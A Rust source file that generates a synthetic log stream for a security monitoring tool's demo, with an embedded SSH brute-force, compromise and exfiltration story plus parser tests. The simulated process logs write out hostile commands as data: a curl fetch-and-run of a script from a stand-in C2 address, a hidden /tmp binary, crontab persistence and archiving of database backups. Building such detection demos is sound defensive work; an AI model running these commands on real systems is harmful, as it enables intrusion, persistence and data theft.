//! `rampart serve --demo`: a generated, realistic stream so a newcomer sees Rampart work on
//! a fresh clone. Two hours of history are written at start, then live noise follows.
//!
//! The records are real log lines (RFC 5424 syslog, nginx access logs, CEF from a firewall,
//! ECS JSON from an endpoint agent) that go through the same parsers and durable sink as
//! any input. Among the noise of seven hosts runs one attack story:
//! 1. an SSH brute force from 203.0.113.45 against `bastion01` that ends in a successful
//!    login as `admin`;
//! 2. a suspicious process tree on `bastion01` (a shell fetching and running a script from
//!    198.51.100.23, a hidden binary in /tmp, persistence through crontab);
//! 3. a large outbound transfer from `bastion01` (10.0.2.15) to 198.51.100.23, seen by
//!    the firewall `fw01`.

use std::sync::Arc;
use std::time::Duration;

use rampart_ingest::{EventSink, IngestMetrics};
use rampart_model::{Origin, OriginKind, Timestamp};
use rampart_parse::{Format, Parser, ParserConfig};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

pub const ATTACKER_IP: &str = "203.0.113.45";
pub const C2_IP: &str = "198.51.100.23";
/// The company's own vulnerability scanner: its weekly run guesses SSH accounts too, and a
/// suppression (made at demo start) mutes every signal from it, each kept for review.
pub const SCANNER_IP: &str = "10.0.9.50";
/// The reason given on the demo's scanner suppression.
pub const SCANNER_REASON: &str =
    "Authorised vulnerability scanner: weekly credentialed scan (change CHG-1042)";
/// The feed name of the demo's threat-intel indicators.
pub const INTEL_FEED: &str = "demo-partner-feed";

/// The demo's threat-intel feed (CSV): the story's scanner and C2 addresses, plus
/// indicators the story never touches, as any real feed mostly holds.
pub fn intel_feed_csv() -> String {
    format!(
        "value,type,confidence,tags,description\n\
         {ATTACKER_IP},ipv4,80,ssh-scanner;bruteforce,Mass SSH password guessing\n\
         {C2_IP},ipv4,90,c2;exfiltration,Command-and-control and staging server\n\
         update-kworkerd.example,domain,70,c2,Loader domain of the same campaign\n\
         192.0.2.77,ipv4,60,scanner,Port scanner\n\
         44d88612fea8a8f36de82e1278abb02f,md5,95,malware,Test file hash\n"
    )
}

const OPS_USERS: &[&str] = &["alice", "bob", "carol", "deploy"];
const WEB_PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/login",
    "/api/v1/orders",
    "/static/app.js",
    "/static/site.css",
    "/api/v1/cart",
    "/health",
    "/products/42",
    "/search?q=shoes",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15",
    "curl/8.4.0",
    "kube-probe/1.28",
];
const SPRAY_USERS: &[&str] = &[
    "root", "admin", "test", "oracle", "postgres", "ubuntu", "guest", "user", "git", "ftp",
];

/// One generated record: the line as a shipper would send it.
pub struct DemoRecord {
    pub line: String,
}

fn rfc5424(ts: Timestamp, host: &str, app: &str, pid: u32, severity: u8, msg: &str) -> String {
    // facility 4 (auth) for sshd/sudo, 3 (daemon) otherwise
    let facility = if app == "sshd" || app == "sudo" { 4 } else { 3 };
    let pri = facility * 8 + severity as u32;
    format!("<{pri}>1 {} {host} {app} {pid} - - {msg}", ts.to_rfc3339())
}

fn nginx(ts: Timestamp, rng: &mut StdRng) -> String {
    let jt = ts.to_jiff().to_zoned(jiff::tz::TimeZone::UTC);
    let ip = format!(
        "198.18.{}.{}",
        rng.random_range(0..4),
        rng.random_range(2..250)
    );
    let path = WEB_PATHS[rng.random_range(0..WEB_PATHS.len())];
    let status = if rng.random_range(0..50) == 0 {
        404
    } else {
        200
    };
    let agent = AGENTS[rng.random_range(0..AGENTS.len())];
    // nginx's `access_log syslog:server=…` output: an access-log line inside syslog.
    format!(
        "<190>1 {} web01 nginx - - - {ip} - - [{}] \"GET {path} HTTP/1.1\" {status} {} \"-\" \"{agent}\"",
        ts.to_rfc3339(),
        jt.strftime("%d/%b/%Y:%H:%M:%S %z"),
        rng.random_range(200..40_000)
    )
}

fn cef_flow(ts: Timestamp, src: &str, dst: &str, dpt: u16, bytes_out: u64, act: &str) -> String {
    format!(
        "<134>1 {} fw01 firewall - - - CEF:0|Rampart Demo|EdgeFW|2.1|100|connection {act}|3|rt={} src={src} dst={dst} dpt={dpt} proto=TCP out={bytes_out} act={act}",
        ts.to_rfc3339(),
        ts.millis()
    )
}

fn process_json(
    ts: Timestamp,
    host: &str,
    user: &str,
    parent: &str,
    name: &str,
    cmd: &str,
    pid: u32,
) -> String {
    serde_json::json!({
        "@timestamp": ts.to_rfc3339(),
        "host": {"name": host},
        "user": {"name": user},
        "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec", "module": "rampart-agent"},
        "process": {
            "name": name, "pid": pid, "command_line": cmd,
            "executable": if name.starts_with('/') { name.to_owned() } else { format!("/usr/bin/{name}") },
            "parent": {"name": parent},
        },
        "message": format!("{user} ran {cmd}"),
    })
    .to_string()
}

/// Background noise at time `ts`: a few records from the ordinary life of seven hosts.
pub fn noise(ts: Timestamp, rng: &mut StdRng, out: &mut Vec<DemoRecord>) {
    let pid = rng.random_range(1000..60000);
    let line = match rng.random_range(0..10) {
        0..=2 => nginx(ts, rng),
        3 => {
            let user = OPS_USERS[rng.random_range(0..OPS_USERS.len())];
            let ip = format!("10.0.1.{}", rng.random_range(10..60));
            let host = ["bastion01", "db01", "web01"][rng.random_range(0..3)];
            rfc5424(
                ts,
                host,
                "sshd",
                pid,
                6,
                &format!(
                    "Accepted publickey for {user} from {ip} port {} ssh2: ED25519 SHA256:x",
                    rng.random_range(30000..65000)
                ),
            )
        }
        4 => rfc5424(
            ts,
            ["web01", "db01", "app01"][rng.random_range(0..3)],
            "CRON",
            pid,
            6,
            "(root) CMD (/usr/lib/sysstat/sa1 1 1)",
        ),
        5 => {
            let src = format!(
                "10.0.{}.{}",
                rng.random_range(1..4),
                rng.random_range(10..200)
            );
            let dst =
                ["151.101.1.69", "140.82.112.3", "8.8.8.8", "1.1.1.1"][rng.random_range(0..4)];
            cef_flow(ts, &src, dst, 443, rng.random_range(500..90_000), "allow")
        }
        6 => rfc5424(
            ts,
            "db01",
            "postgres",
            pid,
            6,
            "LOG:  checkpoint complete: wrote 42 buffers (0.3%)",
        ),
        7 => {
            let user = OPS_USERS[rng.random_range(0..OPS_USERS.len())];
            process_json(ts, "app01", user, "bash", "ls", "ls -la /var/www", pid)
        }
        8 => rfc5424(
            ts,
            "ws-017",
            "kernel",
            0,
            6,
            "[UFW BLOCK] IN=eth0 OUT= SRC=10.0.3.44 DST=10.0.3.255 PROTO=UDP SPT=137 DPT=137",
        ),
        _ => {
            let user = OPS_USERS[rng.random_range(0..OPS_USERS.len())];
            rfc5424(
                ts,
                "app01",
                "sudo",
                pid,
                5,
                &format!(
                    "{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart app"
                ),
            )
        }
    };
    out.push(DemoRecord { line });
}

/// The attack story, starting at `start`, in time order.
pub fn attack(start: Timestamp, rng: &mut StdRng) -> Vec<DemoRecord> {
    let mut out = Vec::new();
    let mut t = start.nanos();
    let step = |t: &mut i64, secs: f64| *t += (secs * 1e9) as i64;
    // 1. brute force: a spray of names, then a run against admin, then success.
    for i in 0..80 {
        let user = if i < 50 {
            SPRAY_USERS[i % SPRAY_USERS.len()]
        } else {
            "admin"
        };
        let invalid = if user == "admin" || user == "root" {
            ""
        } else {
            "invalid user "
        };
        let port = rng.random_range(30000..65000);
        out.push(DemoRecord {
            line: rfc5424(
                Timestamp(t),
                "bastion01",
                "sshd",
                4100 + i as u32,
                4,
                &format!("Failed password for {invalid}{user} from {ATTACKER_IP} port {port} ssh2"),
            ),
        });
        step(&mut t, 1.7);
    }
    out.push(DemoRecord {
        line: rfc5424(
            Timestamp(t),
            "bastion01",
            "sshd",
            4190,
            6,
            &format!("Accepted password for admin from {ATTACKER_IP} port 51022 ssh2"),
        ),
    });
    step(&mut t, 40.0);
    // 2. suspicious process tree.
    let chain: &[(&str, &str, &str)] = &[
        ("sshd", "bash", "-bash"),
        ("bash", "id", "id"),
        ("bash", "uname", "uname -a"),
        (
            "bash",
            "curl",
            "curl -fsSL http://198.51.100.23/x.sh -o /tmp/.x/x.sh",
        ),
        ("bash", "sh", "sh /tmp/.x/x.sh"),
        ("sh", "chmod", "chmod +x /tmp/.x/kworkerd"),
        (
            "sh",
            "/tmp/.x/kworkerd",
            "/tmp/.x/kworkerd --daemon --host 198.51.100.23:443",
        ),
        (
            "sh",
            "crontab",
            "crontab -l | { cat; echo '@reboot /tmp/.x/kworkerd --daemon'; } | crontab -",
        ),
        ("bash", "tar", "tar czf /tmp/.x/db.tgz /var/backups/db"),
    ];
    for (i, (parent, name, cmd)) in chain.iter().enumerate() {
        out.push(DemoRecord {
            line: process_json(
                Timestamp(t),
                "bastion01",
                "admin",
                parent,
                name,
                cmd,
                7000 + i as u32,
            ),
        });
        step(&mut t, 9.0);
    }
    // 3. outbound transfer, in chunks seen by the firewall.
    for _ in 0..6 {
        out.push(DemoRecord {
            line: cef_flow(
                Timestamp(t),
                "10.0.2.15",
                C2_IP,
                443,
                rng.random_range(250_000_000..400_000_000),
                "allow",
            ),
        });
        step(&mut t, 20.0);
    }
    out
}

/// The scanner's SSH checks from `start`: default and service account names tried once each
/// on db01, a few seconds apart (enough to look like password spraying).
pub fn scanner(start: Timestamp) -> Vec<DemoRecord> {
    const NAMES: &[&str] = &[
        "nessus", "scanner", "pi", "vagrant", "jenkins", "tomcat", "mysql", "hadoop",
    ];
    NAMES
        .iter()
        .enumerate()
        .map(|(i, user)| DemoRecord {
            line: rfc5424(
                Timestamp(start.nanos() + i as i64 * 4_000_000_000),
                "db01",
                "sshd",
                7000 + i as u32,
                4,
                &format!(
                    "Failed password for invalid user {user} from {SCANNER_IP} port {} ssh2",
                    41000 + i
                ),
            ),
        })
        .collect()
}

/// Two hours of history ending now, with the attack 40 minutes ago and the scanner's run
/// 70 minutes ago (noise first, then the rest: `run` sends them in time order).
pub fn history(now: Timestamp, rng: &mut StdRng) -> Vec<DemoRecord> {
    let hour = 3_600_000_000_000i64;
    let start = now.nanos() - 2 * hour;
    let mut out = Vec::new();
    let mut t = start;
    while t < now.nanos() {
        noise(Timestamp(t), rng, &mut out);
        t += rng.random_range(300_000_000..1_500_000_000);
    }
    out.extend(scanner(Timestamp(now.nanos() - 70 * 60 * 1_000_000_000)));
    out.extend(attack(
        Timestamp(now.nanos() - 40 * 60 * 1_000_000_000),
        rng,
    ));
    out
}

/// Write the history, then a few noise records a second until shutdown.
pub async fn run(
    sink: Arc<dyn EventSink>,
    metrics: Arc<IngestMetrics>,
    mut shutdown: tokio::sync::watch::Receiver<bool>,
) {
    let parser = match Parser::new(ParserConfig {
        format: Format::Auto,
        ..ParserConfig::default()
    }) {
        Ok(p) => p,
        Err(e) => {
            tracing::error!(error = %e, "demo: cannot build a parser");
            return;
        }
    };
    let mut rng = StdRng::seed_from_u64(0x5eed);
    let counters = metrics.listener("demo");
    let origin = Origin::new(OriginKind::Demo, "demo");
    let to_events = |records: Vec<DemoRecord>| {
        records
            .into_iter()
            .map(|r| parser.parse(r.line.as_bytes(), origin.clone()))
            .collect::<Vec<_>>()
    };
    // In event-time order, as a live stream would have brought them: correlation windows
    // slide on event time and count events far behind the newest one as late.
    let mut backlog = to_events(history(Timestamp::now(), &mut rng));
    backlog.sort_by_key(|e| e.timestamp);
    let n = backlog.len();
    for chunk in backlog.chunks(2000) {
        if let Err(e) = sink.accept(chunk.to_vec()).await {
            tracing::error!(error = %e, "demo: the store refused the history");
            return;
        }
        counters.accepted(chunk.len() as u64, 0);
        counters.bytes(chunk.iter().map(|e| e.raw.len() as u64).sum());
    }
    tracing::info!(
        events = n,
        "demo: wrote two hours of history with an attack story; live noise follows"
    );
    let mut tick = tokio::time::interval(Duration::from_secs(1));
    loop {
        tokio::select! {
            _ = tick.tick() => {}
            _ = shutdown.changed() => return,
        }
        let mut records = Vec::new();
        for _ in 0..rng.random_range(3..12) {
            noise(Timestamp::now(), &mut rng, &mut records);
        }
        let events = to_events(records);
        let count = events.len() as u64;
        let bytes: u64 = events.iter().map(|e| e.raw.len() as u64).sum();
        if let Err(e) = sink.accept(events).await {
            tracing::warn!(error = %e, "demo: live batch refused");
        } else {
            counters.accepted(count, 0);
            counters.bytes(bytes);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn story_parses_into_the_fields_analysts_search() {
        let parser = Parser::new(ParserConfig::default()).expect("auto parser");
        let mut rng = StdRng::seed_from_u64(1);
        let events: Vec<_> = attack(Timestamp::now(), &mut rng)
            .into_iter()
            .map(|r| parser.parse(r.line.as_bytes(), Origin::new(OriginKind::Demo, "demo")))
            .collect();
        let failures = events
            .iter()
            .filter(|e| {
                e.get_str("event.outcome").as_deref() == Some("failure")
                    && e.get_str("source.ip").as_deref() == Some(ATTACKER_IP)
            })
            .count();
        assert_eq!(failures, 80);
        assert!(
            events
                .iter()
                .any(|e| e.get_str("event.outcome").as_deref() == Some("success")
                    && e.get_str("user.name").as_deref() == Some("admin"))
        );
        assert!(
            events
                .iter()
                .any(|e| e.get_str("process.name").as_deref() == Some("curl")
                    && e.get_str("host.name").as_deref() == Some("bastion01"))
        );
        assert!(
            events
                .iter()
                .any(|e| e.get_str("destination.ip").as_deref() == Some(C2_IP))
        );
        assert!(
            events.iter().all(|e| e.parse_error.is_none()),
            "every demo line parses"
        );
        let total: u64 = events
            .iter()
            .filter(|e| e.get_str("destination.ip").as_deref() == Some(C2_IP))
            .filter_map(|e| e.get_str("source.bytes")?.parse::<u64>().ok())
            .sum();
        assert!(
            total > 1_000_000_000,
            "the exfiltration is visible in source.bytes"
        );
    }

    #[test]
    fn noise_parses_and_names_its_host() {
        let parser = Parser::new(ParserConfig::default()).expect("auto parser");
        let mut rng = StdRng::seed_from_u64(2);
        let mut records = Vec::new();
        for i in 0..500 {
            noise(
                Timestamp::from_secs(1_700_000_000 + i),
                &mut rng,
                &mut records,
            );
        }
        for r in &records {
            let ev = parser.parse(r.line.as_bytes(), Origin::new(OriginKind::Demo, "demo"));
            assert!(ev.parse_error.is_none(), "{}: {:?}", r.line, ev.parse_error);
            assert!(ev.get_str("host.name").is_some(), "no host in {}", r.line);
        }
    }
}
